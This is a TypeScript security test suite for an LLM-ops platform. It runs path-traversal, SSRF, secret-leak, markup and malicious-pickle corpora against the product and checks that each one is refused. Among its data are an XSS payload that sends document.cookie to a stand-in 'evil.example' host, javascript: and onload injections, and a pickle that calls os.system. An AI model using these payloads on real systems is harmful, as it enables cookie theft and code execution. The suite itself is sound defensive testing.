import assert from 'node:assert/strict';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { Agent, createServer, request, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, test } from 'node:test';
import * as contracts from '@llm-ops/contracts';
import pg from 'pg';
import { config, goodTorchFile, hostilePickles, hostilePythonPickles, sound } from '../catalog/files.ts';
import { hostilePaths } from '../corpora/paths.ts';
import { loopbackUrls, neverUrls, privateUrls } from '../corpora/urls.ts';
import { ask, call, people, startPlatform, until, untilStatus, type Json, type RunningPlatform } from './harness.ts';

/** The whole product under the hostile corpora, over HTTP; the rules behind it have tests of their own. */
const atOnce = Number(process.env['SECURITY_CONCURRENCY'] ?? 8);
const root = mkdtempSync(path.join(tmpdir(), 'llm-ops-security-'));
const running: RunningPlatform[] = [];
const servers: Server[] = [];
const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
after(async () => {
  agent.destroy();
  for (const one of running) await one.stop();
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
  rmSync(root, { recursive: true, force: true });
});

async function start(environment: Record<string, string>, folder: string): Promise<RunningPlatform> {
  const platform = await startPlatform({ SERVING_DRAIN_SECONDS: '1', ...environment }, path.join(root, folder));
  running.push(platform);
  return platform;
}

/** A few at a time; answers in the order of the items. */
async function each<T, R>(items: readonly T[], work: (item: T, index: number) => Promise<R>): Promise<R[]> {
  const results: R[] = [];
  let next = 0;
  const worker = async () => {
    for (let index = next++; index < items.length; index = next++) results[index] = await work(items[index]!, index);
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
  return results;
}

interface Raw {
  status: number;
  headers: IncomingMessage['headers'];
  text: string;
}

/** A request whose path and body are sent as they are: nothing is normalised on the way. */
function raw(
  url: string,
  method: string,
  target: string,
  headers: Record<string, string>,
  body?: Buffer | string,
): Promise<Raw> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const sent = request({ agent, hostname, port, method, path: target, headers }, (response) => {
      let text = '';
      response
        .setEncoding('utf8')
        .on('data', (chunk: string) => (text += chunk))
        .on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, text }))
        .on('error', reject);
    });
    sent.on('error', (error) => reject(new Error(`${method} ${target.slice(0, 200)}: ${error.message}`)));
    sent.end(body);
  });
}

/** What HTTP itself does not carry in a path, escaped; everything else stays as it is. */
const inPath = (text: string): string =>
  [...Buffer.from(text, 'utf8')]
    .map((byte) => (byte > 0x20 && byte < 0x7f ? String.fromCharCode(byte) : `%${byte.toString(16).padStart(2, '0')}`))
    .join('');

const escaped = (text: string): string => encodeURIComponent(text.toWellFormed());

function filesBelow(folder: string): string[] {
  if (!existsSync(folder)) return [];
  return readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => !entry.isDirectory())
    .map((entry) => path.join(entry.parentPath, entry.name));
}

const codeOf = ({ text }: Raw): string => {
  try {
    return (JSON.parse(text) as Json).data?.code ?? '';
  } catch {
    return '';
  }
};

const draftOf = (name: string, metadata: object = { description: 'A draft.' }) => ({
  name,
  version: '1',
  type: 'base',
  owner_team: 'platform',
  metadata,
});

const external = (name: string, metadata: object) => ({
  name,
  version: '1',
  type: 'external',
  owner_team: 'platform',
  metadata: { description: 'Somebody else serves it.', model_name: 'canary', ...metadata },
});

/** An external model, approved and deployed. */
async function servedElsewhere(api: string, id: string, route: string): Promise<Json> {
  await ask(api, people.researcher, 'PATCH', `/catalog/models/${id}/status`, { status: 'pending_review' });
  await ask(api, people.reviewer, 'POST', `/catalog/models/${id}/versions/1/approve`, { decision: 'approve' });
  const body = { modelId: id, environment: 'dev', route, useGpu: false };
  const endpoint = await ask(api, people.operator, 'POST', '/serving/endpoints', body);
  return untilStatus(api, endpoint.id, 'healthy');
}

const chat = (url: string, route: string): Promise<Raw> =>
  raw(
    url,
    'POST',
    `/llm-ops/v1/serve/${route}/chat`,
    { ...people.developer, 'content-type': 'application/json' },
    JSON.stringify({ messages: [{ role: 'user', content: 'Hello' }] }),
  );

let closed: RunningPlatform;
let canaryHits = 0;
let canaryPort = 0;

test('threats, path traversal: a corpus of hostile names against every field: never a 5xx, never a file beside its place', async () => {
  closed = await start({ EGRESS_ALLOW_LOOPBACK: 'false' }, 'deep/down/data');
  const { api, url, dataDir } = closed;
  const model = await ask(api, people.researcher, 'POST', '/catalog/models', draftOf('paths'));
  const form = new FormData();
  form.append('files', new Blob([config]), 'config.json');
  await ask(api, people.researcher, 'POST', `/catalog/models/${model.id}/upload`, form);
  const provider = await ask(
    api,
    people.researcher,
    'POST',
    '/catalog/models',
    external('route-target', { provider: 'ollama', endpoint: 'http://ollama.invalid' }),
  );
  const target = await servedElsewhere(api, provider.id, '/route-target');
  const before = filesBelow(path.join(dataDir, 'objects/models'));
  const researcher = people.researcher;
  const operator = people.operator;
  const json = { 'content-type': 'application/json' };
  const post = (who: object, route: string, body: object) =>
    raw(url, 'POST', `/llm-ops/v1${route}`, { ...who, ...json }, JSON.stringify(body));
  const boundary = 'hostile-corpus-boundary';
  const upload = (name: string) =>
    raw(
      url,
      'POST',
      `/llm-ops/v1/catalog/models/${model.id}/upload`,
      { ...researcher, 'content-type': `multipart/form-data; boundary=${boundary}` },
      Buffer.from(
        `--${boundary}\r\ncontent-disposition: form-data; name="files"; filename="${name}"\r\n\r\n{}\r\n--${boundary}--\r\n`,
      ),
    );
  const places: Record<string, (name: string, index: number) => Promise<Raw>> = {
    'file name of a multipart upload': upload,
    'path of a resumable upload': (name) =>
      raw(url, 'POST', '/llm-ops/v1/uploads', {
        ...researcher,
        'tus-resumable': '1.0.0',
        'upload-length': '2',
        'upload-metadata': `subject_kind ${btoa('model')},subject_id ${btoa(model.id)},path ${Buffer.from(name).toString('base64')}`,
      }),
    'path of a download, escaped': (name) =>
      raw(url, 'GET', `/llm-ops/v1/catalog/models/${model.id}/files/${escaped(name)}`, researcher),
    'path of a download, raw': (name) =>
      raw(url, 'GET', `/llm-ops/v1/catalog/models/${model.id}/files/${inPath(name)}`, researcher),
    'path of a deletion': (name) =>
      raw(url, 'DELETE', `/llm-ops/v1/catalog/models/${model.id}/files/${escaped(name)}`, researcher),
    'version label': (name, index) =>
      post(researcher, '/catalog/models', { ...draftOf(`label-${index}`), version: name }),
    'version in a path': (name) =>
      raw(url, 'GET', `/llm-ops/v1/catalog/models/${model.id}/versions/1/compare/${escaped(name)}`, researcher),
    'id in a path': (name) => raw(url, 'GET', `/llm-ops/v1/catalog/models/${escaped(name)}`, researcher),
    'hub id': (name) =>
      post(researcher, '/catalog/models/import-from-huggingface', {
        huggingface_model_id: name,
        owner_team: 'platform',
      }),
    'route of a deployment': (name) =>
      post(operator, '/serving/endpoints', {
        modelId: provider.id,
        environment: 'stg',
        route: name,
        useGpu: false,
        parityNote: 'A corpus.',
      }),
    'name of a route': (name) =>
      post(operator, '/serving/routes', { name, environment: 'stg', targets: [{ endpointId: target.id }] }),
    'name of a registration': (name) =>
      post(operator, '/serving/registrations', { name, endpointId: target.id, environment: 'prod' }),
    'registration in a path': (name) => raw(url, 'GET', `/llm-ops/v1/serving/registrations/${escaped(name)}`, operator),
    'route that is called': (name) =>
      raw(
        url,
        'POST',
        `/llm-ops/v1/serve/${inPath(name)}/chat`,
        { ...people.developer, ...json },
        JSON.stringify({ messages: [{ role: 'user', content: 'Hello' }] }),
      ),
    'page of the web application': (name) => raw(url, 'GET', `/${inPath(name)}`, { accept: '*/*' }),
  };
  const accepted: string[] = [];
  for (const [place, send] of Object.entries(places)) {
    const answers = await each(hostilePaths, send);
    answers.forEach((answer, index) => {
      const said = `${place} ${JSON.stringify(hostilePaths[index]!.slice(0, 80))}: ${answer.status} ${answer.text.slice(0, 300)}`;
      // a provider that does not exist, asked by a name that is also a route, is a failure of that provider
      const providerGone = place === 'route that is called' && codeOf(answer).startsWith('egress_');
      assert.ok(answer.status < 500 || providerGone, said);
      assert.ok(!/root:.*:0:0:/.test(answer.text), said);
      // an empty id is the list
      const good = answer.status < 300 && !(place === 'id in a path' && hostilePaths[index] === '');
      if (good && /upload|download|deletion|version|id in/.test(place)) accepted.push(said);
      if (good && /^(name|route of)/.test(place)) {
        const { name, route } = (JSON.parse(answer.text) as Json).data;
        const kept = String(name ?? route);
        assert.doesNotMatch(kept, /(^|\/)\.\.?(\/|$)|[\\%]|\p{Cc}|\p{Cf}/u, said);
      }
    });
  }
  assert.deepEqual(accepted, [], 'no hostile name is a file, a version or an id');
  assert.deepEqual(filesBelow(path.join(dataDir, 'objects/models')), before, 'nothing was written');
  assert.deepEqual(
    readdirSync(path.join(dataDir, 'objects')).filter((name) => !name.startsWith('.') && name !== 'audit'),
    ['models'],
  );
  assert.deepEqual(readdirSync(root), ['deep']);
  assert.deepEqual(readdirSync(path.join(root, 'deep')), ['down']);
  assert.deepEqual(readdirSync(path.join(root, 'deep/down')), ['data']);
  assert.equal(closed.process.exitCode, null);
  console.log(`${hostilePaths.length} hostile names in ${Object.keys(places).length} places`);
});

test('threats, SSRF: addresses of external models: refused where they are given or when they are called; nobody on this machine is reached', async () => {
  const { api, url } = closed;
  const canary = createServer((_request, response) => {
    canaryHits += 1;
    response.end('{"data":[{"id":"canary"}],"choices":[{"message":{"content":"reached"}}]}');
  });
  servers.push(canary);
  canary.on('connection', () => (canaryHits += 1));
  canary.listen(0, '::');
  await once(canary, 'listening');
  canaryPort = (canary.address() as AddressInfo).port;
  const towards = (text: string): string =>
    text.replace(':8000', '').replace(/^([a-z\n]+:[/\\]*\s*(?:\[[^\]]*\]|[^/\\?#:]+))/i, `$1:${canaryPort}`);
  const addresses = [...neverUrls, ...loopbackUrls, ...loopbackUrls.map(towards), ...privateUrls];
  const outcome = { atRegistration: 0, atCall: 0 };
  const providers = addresses.flatMap((address) => [
    { provider: 'openai', base_url: address, api_key: 'sk-nobody' },
    { provider: 'ollama', endpoint: address },
  ]);
  await each(providers, async (metadata, index) => {
    const said = JSON.stringify(metadata).slice(0, 200);
    // an empty address of this provider means its public one
    if (metadata.provider === 'openai' && metadata.base_url?.trim() === '') return;
    const made = await call(api, people.researcher, 'POST', '/catalog/models', external(`ssrf-${index}`, metadata));
    if (made.status !== 200) {
      outcome.atRegistration += 1;
      assert.deepEqual([made.status, made.body.data.code], [400, 'validation_failed'], said);
      assert.match(JSON.stringify(made.body.data.issues), /metadata\.(base_url|endpoint)/, said);
      return;
    }
    outcome.atCall += 1;
    const { id } = made.body.data;
    const tested = await ask(api, people.researcher, 'POST', `/catalog/models/${id}/test-connection`);
    assert.equal(tested.ok, false, said);
    assert.match(tested.message, /which is|never called|not known|no address/, `${said}: ${tested.message}`);
    if (index % 4 > 1) return;
    await servedElsewhere(api, id, `/ssrf-${index}`);
    const asked = await until('the route is known', async () => {
      const answer = await chat(url, `ssrf-${index}`);
      return ['route_not_found', 'endpoint_unavailable'].includes(codeOf(answer)) ? null : answer;
    });
    assert.match(codeOf(asked), /^egress_(refused|unreachable)$/, `${said}: ${asked.text}`);
    assert.ok(!asked.text.includes('reached'), said);
  });
  console.log(
    `${providers.length} addresses: ${outcome.atRegistration} refused when given, ${outcome.atCall} when called`,
  );
  assert.ok(outcome.atCall > 30, 'the second line was tried as well');
  assert.equal(canaryHits, 0, 'the canary was reached');
  await running.splice(running.indexOf(closed), 1)[0]!.stop();
});

/** Every table of every schema as text. */
async function databaseText(dataDir: string, log: readonly string[]): Promise<{ text: string; folder: string }> {
  const password = readFileSync(path.join(dataDir, 'postgres.password'), 'utf8').trim();
  const port = /"port":(\d+)[^\n]*embedded PostgreSQL runs/.exec(log.join('\n'))?.[1];
  const client = new pg.Client({ connectionString: `postgres://llmops:${password}@127.0.0.1:${port}/postgres` });
  await client.connect();
  const { rows: tables } = await client.query(
    `select format('%I.%I', schemaname, tablename) as name from pg_tables where schemaname not in ('pg_catalog', 'information_schema')`,
  );
  let text = '';
  for (const { name } of tables) {
    const { rows } = await client.query(`select row_to_json(t)::text as line from ${name} t`);
    text += rows.map(({ line }) => line).join('\n');
  }
  await client.query('checkpoint');
  const { rows } = await client.query('show data_directory');
  await client.end();
  return { text, folder: rows[0].data_directory };
}

let open: RunningPlatform;

test('threats, secrets: a key given once is found nowhere: answers, audit log, export, metrics, manifests, log, database, files', async () => {
  open = await start({ LOG_LEVEL: 'trace' }, 'open');
  const { api, url, dataDir } = open;
  const canary = `sk-canary-${'x'.repeat(8)}-${Date.now()}-secret`;
  let keySeen = 0;
  let refuse = false;
  const provider = createServer((incoming, response) => {
    const given = incoming.headers.authorization ?? '';
    if (given === `Bearer ${canary}`) keySeen += 1;
    incoming.resume();
    response.setHeader('content-type', 'application/json');
    // some providers repeat the key that they refuse
    if (refuse)
      response
        .writeHead(401)
        .end(JSON.stringify({ error: { message: `Incorrect API key provided: ${given.slice(7)}` } }));
    else if (incoming.url?.endsWith('/models')) response.end('{"data":[{"id":"canary"}]}');
    else
      response.end(
        '{"choices":[{"index":0,"message":{"role":"assistant","content":"hello"},"finish_reason":"stop"}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}',
      );
  });
  servers.push(provider);
  provider.listen(0, '127.0.0.1');
  await once(provider, 'listening');
  const base = `http://127.0.0.1:${(provider.address() as AddressInfo).port}/v1`;
  const told: string[] = [];
  const keep = async (sent: Promise<{ status: number; body: Json }>): Promise<Json> => {
    const { status, body } = await sent;
    told.push(JSON.stringify(body));
    assert.ok(status < 500, JSON.stringify(body));
    return body.data;
  };
  const model = await keep(
    call(
      api,
      people.researcher,
      'POST',
      '/catalog/models',
      external('secret', { provider: 'openai', base_url: base, api_key: canary }),
      { 'idempotency-key': 'canary' },
    ),
  );
  assert.equal(model.has_api_key, true);
  // the same again, and in ways that are refused
  await keep(
    call(
      api,
      people.researcher,
      'POST',
      '/catalog/models',
      external('secret', { provider: 'openai', base_url: base, api_key: canary }),
      { 'idempotency-key': 'canary' },
    ),
  );
  for (const wrong of [
    { provider: 'nobody', api_key: canary },
    { provider: 'openai', base_url: 'nowhere', apiKey: canary },
    { provider: 'openai', nested: { api_key: canary } },
    { provider: 'openai', base_url: `http://key:${canary}@127.0.0.1/` },
  ]) {
    const refused = await call(api, people.researcher, 'POST', '/catalog/models', external('refused', wrong));
    assert.equal(refused.status, 400, JSON.stringify(refused.body));
    told.push(JSON.stringify(refused.body));
  }
  const misplaced = await call(
    api,
    people.researcher,
    'POST',
    '/catalog/models',
    draftOf('misplaced', { api_key: canary }),
  );
  assert.equal(misplaced.status, 400);
  told.push(JSON.stringify(misplaced.body));
  await keep(
    call(api, people.researcher, 'PATCH', `/catalog/models/${model.id}`, {
      metadata: { ...model.metadata, api_key: canary },
    }),
  );
  await keep(call(api, people.researcher, 'POST', `/catalog/models/${model.id}/versions`, { version: '2' }));
  const tested = await keep(call(api, people.researcher, 'POST', `/catalog/models/${model.id}/test-connection`));
  assert.equal(tested.ok, true, JSON.stringify(tested));
  const endpoint = await servedElsewhere(api, model.id, '/secret');
  const answered = await until('chat', async () => {
    const answer = await chat(url, 'secret');
    return answer.status === 200 ? answer : null;
  });
  told.push(answered.text);
  assert.ok(keySeen >= 2, 'the provider got the key');
  refuse = true;
  told.push(JSON.stringify(await ask(api, people.researcher, 'POST', `/catalog/models/${model.id}/test-connection`)));
  const refused = await chat(url, 'secret');
  assert.equal(codeOf(refused), 'upstream_failed');
  told.push(
    refused.text,
    JSON.stringify(await ask(api, people.operator, 'POST', `/serving/endpoints/${endpoint.id}/verify`)),
  );
  refuse = false;
  const made = await call(
    api,
    people.developer,
    'POST',
    '/governance/api-keys',
    { name: 'once', team: 'platform', roles: ['developer'] },
    { 'idempotency-key': 'key-once' },
  );
  const ownKey: string = made.body.data.key;
  assert.ok(ownKey.length > 20, JSON.stringify(made.body));
  assert.equal((await fetch(`${url}/v1/models`, { headers: { authorization: `Bearer ${ownKey}` } })).status, 200);

  // every GET of the served tables, by an administrator
  type Values = Record<string, string>;
  const values: Values = {
    id: model.id,
    version: '1',
    v1: '1',
    v2: '2',
    name: 'secret',
    path: 'config.json',
    team: 'platform',
  };
  let asked = 0;
  for (const table of [
    contracts.catalogRoutes,
    contracts.datasetRoutes,
    contracts.servingRoutes,
    contracts.gatewayRoutes,
    contracts.observationRoutes,
    contracts.changeRoutes,
    contracts.organizationRoutes,
    contracts.governanceRoutes,
    contracts.platformRoutes,
    contracts.inferenceRoutes,
    contracts.usageRoutes,
    contracts.costRoutes,
  ] as contracts.RouteTable[]) {
    for (const route of Object.values(table).filter(({ method }) => method === 'GET')) {
      const own: Values = route.tag === 'serving' ? { ...values, id: endpoint.id } : values;
      const at = route.path.replace(/\{(\w+)\}/g, (_whole, name: string) => own[name] ?? 'secret');
      const answer = await raw(url, 'GET', `/llm-ops/v1${at}`, people.admin);
      assert.ok(answer.status < 500, `${at}: ${answer.text}`);
      told.push(answer.text);
      asked += 1;
    }
  }
  for (const at of ['/metrics', '/readyz', '/llm-ops/v1/openapi.json', '/docs/', '/v1/models'])
    told.push((await raw(url, 'GET', at, people.admin)).text);
  assert.ok(
    told.some((text) => text.includes('ExternalModel')),
    'manifests were read',
  );
  assert.ok(
    told.some((text) => text.includes('"model.create"')),
    'the audit log was read',
  );

  // the ledger, which is written a moment later, knows that a request failed, and why
  const { log } = open;
  const database = await until('the ledger has the failed request', async () => {
    const found = await databaseText(dataDir, log);
    return found.text.includes(model.id) && found.text.includes('upstream_failed') ? found : null;
  });
  const files = [...new Set([...filesBelow(dataDir), ...filesBelow(database.folder)])];
  for (const secret of [canary, ownKey]) {
    const forms = [
      secret,
      Buffer.from(secret).toString('hex'),
      Buffer.from(secret).toString('base64').replace(/=+$/, ''),
    ];
    for (const form of forms) {
      assert.deepEqual(
        told.filter((text) => text.includes(form)),
        [],
        'in an answer',
      );
      assert.deepEqual(
        open.log.filter((line) => line.includes(form)),
        [],
        'in the log',
      );
      assert.ok(!database.text.includes(form), 'in the database');
    }
    const holding = files.filter((file) => {
      try {
        return readFileSync(file).includes(secret);
      } catch {
        return false; // removed meanwhile
      }
    });
    assert.deepEqual(holding, [], 'in a file');
  }
  console.log(
    `${asked} routes, ${database.text.length} characters of tables, ${files.length} files, ${open.log.length} log lines searched`,
  );
});

test('threats, markup: cards come back as data; pages forbid foreign scripts; files are downloads whatever they are called', async () => {
  const { api, url } = open;
  const markup = {
    description: '<script>fetch("//evil.example/?"+document.cookie)</script><img src=x onerror=alert(1)>',
    license: '[click](javascript:alert(1)) <a href="javascript:alert(1)">x</a>',
    limitations: '"><svg/onload=alert(1)>',
    intended_use: '{{constructor.constructor("alert(1)")()}}',
  };
  const model = await ask(
    api,
    people.researcher,
    'POST',
    '/catalog/models',
    draftOf('<script>alert(1)</script>', markup),
  );
  const read = await raw(url, 'GET', `/llm-ops/v1/catalog/models/${model.id}`, {
    ...people.researcher,
    accept: 'text/html',
  });
  assert.equal(read.headers['content-type'], 'application/json; charset=utf-8');
  assert.equal(read.headers['x-content-type-options'], 'nosniff');
  assert.deepEqual(
    (JSON.parse(read.text) as Json).data.metadata,
    markup,
    'it is kept as it was given, and shown by those who sanitise',
  );
  const failed = await raw(url, 'GET', `/llm-ops/v1/catalog/models/%3Cscript%3Ealert(1)%3C/script%3E`, {
    ...people.researcher,
    accept: 'text/html',
  });
  assert.match(String(failed.headers['content-type']), /^application\/json/);
  for (const page of ['/', `/catalog/models/${model.id}`, '/docs/']) {
    const answer = await raw(url, 'GET', page, { accept: 'text/html' });
    assert.equal(answer.status, 200, page);
    const policy = String(answer.headers['content-security-policy']);
    assert.match(policy, /default-src 'self'/, page);
    assert.match(policy, /connect-src 'self'/, page);
    if (page !== '/docs/') assert.match(policy, /script-src 'self';/, page);
    assert.match(policy, /frame-ancestors 'none'/, page);
    assert.ok(!answer.text.includes('alert(1)'), page);
  }
  const page = '<!doctype html><script>alert(document.domain)</script>';
  const names = ['index.html.md', 'page.htm.txt', 'picture.svg.json', 'README.md'];
  const form = new FormData();
  for (const name of names) form.append('files', new Blob([page], { type: 'text/html' }), name);
  await ask(api, people.researcher, 'POST', `/catalog/models/${model.id}/upload`, form);
  for (const name of names) {
    const file = await raw(url, 'GET', `/llm-ops/v1/catalog/models/${model.id}/files/${name}`, {
      ...people.researcher,
      accept: 'text/html',
    });
    assert.equal(file.text, page);
    assert.equal(file.headers['content-type'], 'application/octet-stream', name);
    assert.equal(file.headers['x-content-type-options'], 'nosniff', name);
    assert.match(String(file.headers['content-disposition']), /^attachment;/, name);
    assert.match(String(file.headers['content-security-policy']), /default-src 'self'/, name);
  }
  for (const name of ['index.html', 'page.htm', 'picture.svg', 'run.js', 'x.xhtml']) {
    const refused = new FormData();
    refused.append('files', new Blob([page]), name);
    const answer = await call(api, people.researcher, 'POST', `/catalog/models/${model.id}/upload`, refused);
    assert.deepEqual([answer.status, answer.body.data.code], [400, 'file_type_refused'], name);
  }
});

/** A pickle whose loading would leave a file. */
const marked = (marker: string) => Buffer.from(`cos\nsystem\n(S'touch ${marker}'\ntR.`);

async function approvedWith(name: string, files: Record<string, Buffer | string>, accept: boolean): Promise<Json> {
  const { api } = open;
  const model = await ask(api, people.researcher, 'POST', '/catalog/models', draftOf(name));
  const form = new FormData();
  for (const [file, content] of Object.entries(files)) form.append('files', new Blob([content as never]), file);
  await ask(api, people.researcher, 'POST', `/catalog/models/${model.id}/upload`, form);
  await ask(api, people.researcher, 'PATCH', `/catalog/models/${model.id}/status`, { status: 'pending_review' });
  const answer = await call(api, people.reviewer, 'POST', `/catalog/models/${model.id}/versions/1/approve`, {
    decision: 'approve',
    accept_pickle: accept,
  });
  return { id: model.id, approval: answer };
}

const deploy = (modelId: string, route: string) =>
  call(open.api, people.operator, 'POST', '/serving/endpoints', { modelId, environment: 'dev', route, useGpu: false });

test('threats, pickle: what would run something is marked and never served; a harmless one needs a reviewer who accepts it', async () => {
  const { api } = open;
  const marker = path.join(root, 'pickle-ran');
  const hostile: Record<string, Buffer> = Object.fromEntries([
    ['marked.bin', marked(marker)],
    ...Object.values(hostilePickles).map((content, index) => [
      `hostile-${index}.${['bin', 'pt', 'pth'][index % 3]}`,
      content,
    ]),
    ...hostilePythonPickles.map((text, index) => [`python-${index}.pt`, Buffer.from(text, 'base64')]),
  ]);
  const bad = await approvedWith('hostile-pickle', { 'config.json': config, ...hostile }, true);
  const seen = await ask(api, people.reviewer, 'GET', `/catalog/models/${bad.id}`);
  assert.equal(seen.contains_pickle, true);
  const unmarked = seen.files.filter((file: Json) => file.path !== 'config.json' && file.status !== 'failed');
  assert.deepEqual(
    unmarked.map((file: Json) => [file.path, file.status]),
    [],
    'each is marked',
  );
  const one = seen.files.find((file: Json) => file.path === 'marked.bin');
  assert.match(JSON.stringify(one), /os[. ]system/, 'and says what it would run');
  const refused = await deploy(bad.id, '/hostile');
  assert.ok(refused.status === 400 || refused.status === 409, JSON.stringify(refused.body));
  assert.match(refused.body.data.code, /^model_(file_invalid|pickle_not_accepted|not_approved)$/);

  const files = { 'config.json': config, 'pytorch_model.bin': goodTorchFile };
  const unaccepted = await approvedWith('harmless-pickle', files, false);
  const harmless = await ask(api, people.reviewer, 'GET', `/catalog/models/${unaccepted.id}`);
  assert.deepEqual([harmless.contains_pickle, harmless.pickle_accepted], [true, false]);
  assert.equal(harmless.files.find((file: Json) => file.path === 'pytorch_model.bin').status, 'ready');
  const withheld = await deploy(unaccepted.id, '/harmless');
  assert.deepEqual(
    [withheld.status, withheld.body.data.code],
    [400, 'model_pickle_not_accepted'],
    JSON.stringify(withheld.body),
  );
  assert.match(withheld.body.data.remedy, /accept_pickle/);
  const accepted = await approvedWith('accepted-pickle', files, true);
  assert.equal((await ask(api, people.reviewer, 'GET', `/catalog/models/${accepted.id}`)).pickle_accepted, true);
  const served = await deploy(accepted.id, '/accepted');
  assert.equal(served.status, 200, JSON.stringify(served.body));
  const safe = await approvedWith('no-pickle', sound, false);
  assert.equal((await ask(api, people.reviewer, 'GET', `/catalog/models/${safe.id}`)).contains_pickle, false);
  assert.equal(existsSync(marker), false, 'nothing was run');
  console.log(`${Object.keys(hostile).length} hostile pickles`);
});
